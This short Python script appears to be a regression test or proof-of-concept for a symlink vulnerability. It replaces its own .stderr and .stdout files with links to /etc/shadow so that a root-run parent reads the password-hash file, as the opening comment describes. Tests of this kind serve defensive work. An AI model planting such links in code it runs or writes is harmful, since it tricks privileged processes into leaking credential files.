# The parent once read the program's .stderr path as root and followed this link into /etc/shadow.
import os, sys
for name in ('.stderr', '.stdout'):
    try:
        os.remove(name)
    except FileNotFoundError:
        pass
    os.symlink('/etc/shadow', name)
sys.exit(1)
